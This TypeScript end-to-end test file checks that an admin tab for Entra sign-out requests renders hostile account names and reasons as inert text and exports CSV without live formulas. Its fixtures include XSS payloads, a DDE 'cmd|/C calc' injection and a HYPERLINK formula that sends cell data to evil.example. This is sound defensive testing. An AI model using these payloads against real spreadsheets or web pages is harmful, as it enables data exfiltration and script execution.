import { readFileSync } from 'node:fs';
import { seed } from '../../sandbox/playground/seed';
import { atSize } from '../at-size/size';
import { HOSTILE } from '../cards/gallery';
import { asText, folded } from '../right-user/hostile';
import { onTabStage, type OpenTab } from './stage';
import { askFor, press } from './tab-api';

/** Entra's longest display name, and the longest reason. */
const [NAME_AT_MOST, REASON_AT_MOST] = [256, 500];

const FORMULAS: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  'a formula with a plus': '+1+cmd|\'/C calc\'!A0',
  'a formula behind a blank': '  @SUM(1+1)*cmd|x',
  'a formula in the next cell': 'a";=1+1;"b\t=2',
  'a formula in the next line': 'a\r\n-2+3',
  'the end of a script': '</script><script>hacked=1</script><svg onload=alert(1)>',
  'an attribute': '" autofocus onfocus=alert(1) x="',
  'a data address': '[x](data:text/html,<script>alert(1)</script>) [y](javascript:alert(1))',
};
const UPNS = ['<img/src=x/onerror=alert(1)>', '=1+1', '[a](https://evil.example)', '**b**_c_', '"><b>d</b>', '\u202egro\u202c', 'u\u200bv'] as const;

/** One account with a hostile name, about which somebody with a hostile name asked for a hostile reason. */
interface Case {
  readonly label: string;
  readonly name: string;
  readonly upn: string;
  readonly reason: string;
  readonly who: string;
}

const TEXTS = Object.entries({ ...HOSTILE, ...FORMULAS });
/** In a quick run every sixth. */
const EVERY = atSize({ slice: 6, full: 1 });

const cases: readonly Case[] = TEXTS.filter((_text, index) => index % EVERY === 0).map(([label, text], index) => ({
  label,
  name: text.slice(0, NAME_AT_MOST).toWellFormed(),
  upn: `${index}${UPNS[index % UPNS.length] ?? ''}@contoso.com`,
  // A reason is one line: its blanks are folded when it is asked for.
  reason: text.slice(0, REASON_AT_MOST).toWellFormed().replaceAll(/\p{White_Space}+/gu, ' ').trim(),
  who: text.slice(0, NAME_AT_MOST).toWellFormed(),
}));

const stage = onTabStage({ environment: { MESSAGES_PER_MINUTE: '1000', TWO_PERSON_ABOVE: '1000', MAX_OPEN_PER_PERSON: '1000' } });

interface Told extends Case {
  readonly objectId: string;
  readonly request: string;
}
const told: Told[] = [];

/** Every third stays open, every third is cancelled, every third confirmed. */
const tell = async (each: Case, index: number): Promise<void> => {
  const { directory, people } = stage.tenant;
  const { id: objectId } = directory.addUser({ userPrincipalName: each.upn, displayName: each.name });
  for (const admin of [people.megan, people.camille]) directory.rename(admin.id, { displayName: each.who });
  const request = await askFor(stage, 'megan', objectId, each.reason);
  if (index % 3 > 0) await press(stage, 'camille', request, index % 3 === 1 ? 'cancel' : 'confirm');
  told.push({ ...each, objectId, request });
};

/** Kinds of elements, and names of attributes, that the body has. */
const KINDS = `[...new Set([...document.body.querySelectorAll('*')].flatMap(({ tagName, attributes }) => [tagName.toLowerCase(), ...[...attributes].map(({ name }) => '@' + name)]))]`;
/** The card's own link, to the account in Microsoft's portal; it opens beside the tab. */
const OWN_LINK = `[...document.querySelectorAll('.ac-adaptiveCard a')].filter((link) => link.target === '_blank' && /^https:\\/\\/entra\\.microsoft\\.com\\/#view\\/Microsoft_AAD_UsersAndTenants\\/UserProfileMenuBlade\\/~\\/overview\\/userId\\/[0-9a-f-]{36}$/.test(link.getAttribute('href')))`;
/** What leads or loads something from elsewhere, and what runs. */
const LEADING = `[
  ...[...document.body.querySelectorAll('a[href], area[href], form[action], [src], [srcdoc], [formaction], [data], [poster]')].filter((each) => !${OWN_LINK}.includes(each)).map((each) => each.getAttribute('href') ?? each.outerHTML).filter((address) => !/^#\\/[\\w?&=%/.+-]*$/.test(address)),
  ...[...document.body.querySelectorAll('script, style, img, iframe, object, embed, base, meta, link, video, audio, template, slot, marquee')].map((each) => each.outerHTML),
  ...[...document.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes].filter(({ name, value }) => name.startsWith('on') || /javascript:|url\\(/i.test(name === 'style' ? value : '')).map(({ name }) => name)),
  ...(window.hacked === undefined ? [] : ['hacked']),
]`;
const SCRIPTS = `[...document.querySelectorAll('head script, head base, head meta')].map((each) => each.outerHTML)`;

let wide: OpenTab;
let narrow: OpenTab;
let ordinary: ReadonlySet<string>;
let head: unknown;

const go = (tab: OpenTab, route: string): Promise<unknown> => tab.frame.evaluate(`location.hash = ${JSON.stringify(route)}`);

const visits = (request: string): readonly (readonly [route: string, drawn: string])[] => [
  ['#/now', `document.querySelectorAll('article').length > 0`],
  ['#/history', `document.querySelectorAll('main a[href^="#/request/"]').length > 0 && document.querySelector('figure svg rect') !== null`],
  [`#/request/${request}`, `document.querySelector('.ac-adaptiveCard') !== null && document.querySelectorAll('main ol li').length > 0`],
  ['#/history?user=nobody', `document.querySelector('[aria-busy=false] h2') !== null`],
  ['#/health', `document.querySelectorAll('main li').length > 0`],
];

/** Nothing is on the page that was not there with ordinary names. */
const staysText = async (tab: OpenTab): Promise<void> => {
  expect((await tab.frame.evaluate<string[]>(KINDS)).filter((kind) => !ordinary.has(kind))).toEqual([]);
  expect(await tab.frame.evaluate<unknown>(LEADING)).toEqual([]);
  expect(await tab.frame.evaluate<unknown>(SCRIPTS)).toEqual(head);
  expect(await tab.overflow()).toBeLessThanOrEqual(0);
  expect(tab.wrong).toEqual([]);
};

/** What stands isolated in a part of the page, in order. */
const isolatedIn = (tab: OpenTab, part: string): Promise<readonly string[]> => tab.frame.evaluate<string[]>(`[...(${part}).querySelectorAll('bdi')].map(({ textContent }) => textContent)`);

const ordinaryKinds = async (): Promise<ReadonlySet<string>> => {
  const kinds = new Set<string>();
  const ids = await wide.frame.evaluate<string[]>(`[...document.querySelectorAll('article a')].map((link) => link.hash.split('/').at(-1))`);
  const note = async (): Promise<void> => (await wide.frame.evaluate<string[]>(KINDS)).forEach((kind) => kinds.add(kind));
  const visited = new Map(ids.flatMap(visits));
  for (const [route, drawn] of visited) {
    await go(wide, route);
    await wide.eventually(drawn);
    await note();
  }
  await go(wide, '#/revoke');
  const search = wide.frame.getByRole('combobox');
  await search.fill('user@contoso.com');
  await wide.frame.getByRole('option').waitFor();
  await note();
  await search.press('Enter');
  await wide.frame.getByRole('button', { name: 'What would happen?' }).click();
  await wide.frame.getByText('What would happen', { exact: true }).waitFor();
  await note();
  await go(narrow, '#/history');
  await narrow.eventually(visits('')[1]?.[1] ?? '');
  (await narrow.frame.evaluate<string[]>(KINDS)).forEach((kind) => kinds.add(kind));
  return kinds;
};

beforeAll(async () => {
  await seed(stage.tenant, stage.origin);
  [wide, narrow] = [await stage.open(), await stage.open({ width: 320 })];
  await wide.eventually(visits('')[0]?.[1] ?? '');
  ordinary = await ordinaryKinds();
  head = await wide.frame.evaluate<unknown>(SCRIPTS);
  for (const [index, each] of cases.entries()) await tell(each, index);
}, 120_000);
afterAll(async () => {
  await wide.close();
  await narrow.close();
});

describe.each(['wide', 'narrow'] as const)('Hostile names and reasons in a %s window', (which) => {
  const tab = (): OpenTab => (which === 'wide' ? wide : narrow);

  test('are text among what waits, runs and has ended', async () => {
    await go(tab(), '#/now');
    const open = told.filter((_each, index) => index % 3 === 0);
    await tab().eventually(`document.querySelectorAll('article').length >= ${open.length}`);
    for (const { label, objectId, name, upn, who, reason } of open) {
      const card = `[...document.querySelectorAll('article')].find((each) => each.textContent.includes('${objectId}')) ?? document.createElement('p')`;
      expect({ label, shown: await isolatedIn(tab(), card) }).toEqual({ label, shown: [name, upn, objectId, who, reason] });
    }
    await staysText(tab());
    await tab().picture(`hostile-now-${which}`);
  });

  test('are text in the history', async () => {
    await go(tab(), '#/history');
    await tab().eventually(`document.querySelectorAll('main a[href^="#/request/"]').length >= ${Math.min(told.length, 50)}`);
    for (const { label, request, name, upn, who } of told) {
      const row = `document.querySelector('a[href="#/request/${request}"]').closest('tr, li')`;
      const [shownName, shownUpn, ...people] = await isolatedIn(tab(), row);
      expect({ label, shown: [shownName, shownUpn] }).toEqual({ label, shown: [name, upn] });
      expect([...new Set(people)]).toEqual([who]);
    }
    await staysText(tab());
    await tab().picture(`hostile-history-${which}`);
  });
});

describe('On the page of a request', () => {
  test('they are text in its head, its card and its time line', async () => {
    for (const { label, request, objectId, name, upn, who, reason } of told) {
      await go(wide, `#/request/${request}`);
      await wide.eventually(`document.querySelector('main bdi:last-child')?.closest('main').textContent.includes('${objectId}') && document.querySelector('.ac-adaptiveCard')?.textContent.includes('${objectId}')`);
      const [card, line] = await wide.frame.evaluate<[string, string]>(`[document.querySelector('.ac-adaptiveCard').innerText, document.querySelector('main ol').innerText]`);
      expect((await isolatedIn(wide, 'document.querySelector("main")')).slice(0, 3)).toEqual([name, upn, objectId]);
      for (const text of [name, upn, who, reason]) expect(`${label}: ${shown(card)}`).toContain(shown(asText(text)));
      expect(`${label}: ${shown(line)}`).toContain(shown(asText(who)));
      await staysText(wide);
    }
  }, 120_000);

  test('the narrowest window has room for them', async () => {
    for (const { request, objectId } of told) {
      await go(narrow, `#/request/${request}`);
      await narrow.eventually(`document.querySelector('.ac-adaptiveCard')?.textContent.includes('${objectId}')`);
      await staysText(narrow);
    }
  }, 120_000);
});

describe('When somebody is to be signed out', () => {
  const some = (): readonly Told[] => told.filter((_each, index) => index % 4 === 1);

  test('the names are text among those that are found, when one is chosen, and in what would happen', async () => {
    await go(wide, '#/revoke');
    const search = wide.frame.getByRole('combobox');
    for (const { label, objectId, name, upn } of some()) {
      await search.fill(objectId);
      const option = wide.frame.getByRole('option').filter({ hasText: objectId });
      await option.waitFor();
      expect({ label, found: await isolatedIn(wide, `document.querySelector('[role=option]')`) }).toEqual({ label, found: [name, upn, objectId] });
      await staysText(wide);
      await search.press('Enter');
      await wide.eventually(`document.querySelector('main section')?.textContent.includes('${objectId}')`);
      expect(await isolatedIn(wide, `document.querySelector('main section')`)).toEqual([name, upn, objectId]);
      expect(await search.inputValue()).toBe(upn);
      await wide.frame.getByRole('button', { name: 'What would happen?' }).click();
      await wide.frame.getByText('What would happen', { exact: true }).waitFor();
      await staysText(wide);
    }
  }, 60_000);
});

describe('Where somebody searches the history for them', () => {
  test('what was typed stays in the field and in the address, as text', async () => {
    for (const { reason } of told.filter((_each, index) => index % 6 === 2)) {
      // A field of one line takes no line breaks; around it blanks do not count.
      const typed = reason.slice(0, NAME_AT_MOST).toWellFormed().replaceAll(/[\r\n]/g, '').trim();
      await go(wide, `#/history?${new URLSearchParams({ user: typed }).toString()}`);
      await wide.eventually(`document.querySelector('input[name=user]')?.value === ${JSON.stringify(typed)} && document.querySelector('[aria-busy=false]') !== null`);
      await staysText(wide);
    }
  }, 60_000);
});

/** RFC 4180, every cell in quotes. */
const cellsOf = (csv: string): readonly (readonly string[])[] => {
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of csv.replace('\ufeff', '').matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(cell.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
};

describe('In the files that are saved', () => {
  const saved = async (button: string): Promise<string> => {
    await go(wide, '#/history');
    const file = wide.page.waitForEvent('download');
    await wide.frame.getByRole('button', { name: button }).click();
    return readFileSync(await (await file).path(), 'utf8');
  };

  test('JSON Lines have every name and reason as it is', async () => {
    const lines = (await saved('Save as JSON Lines')).trimEnd().split('\n');
    const rows = lines.map((line) => JSON.parse(line) as { readonly request: string; readonly userName: string; readonly upn: string; readonly askedBy: string; readonly reason: string });
    for (const { request, name, upn, who, reason } of told) expect(rows.find((row) => row.request === request)).toMatchObject({ userName: name, upn, askedBy: who, reason: reason });
  });

  test('CSV has them too, and no cell begins a formula', async () => {
    const [columns = [], ...rows] = cellsOf(await saved('Save as CSV'));
    expect(rows.length).toBeGreaterThanOrEqual(told.length);
    expect(rows.filter((row) => row.length !== columns.length)).toEqual([]);
    expect(rows.flat().filter((cell) => /^\s*["]*\s*[=+\-@\uff1d\uff0b]|^[\t\r\n]/u.test(cell))).toEqual([]);
    const without = (text: string): string => text.replaceAll("'", '').replaceAll('\0', '\ufffd');
    for (const { request, name, upn, reason } of told) {
      const row = (rows.find(([id = '']) => without(id) === request) ?? []).map(without);
      for (const text of [name, upn, reason]) expect(row).toContain(without(text));
    }
  });
});

/** A text as it is compared: the marks that keep its direction inside are the documented addition, and blanks are folded by the page. */
function shown(text: string): string {
  return folded(text.replaceAll(/[\u2068\u2069]/g, ''));
}
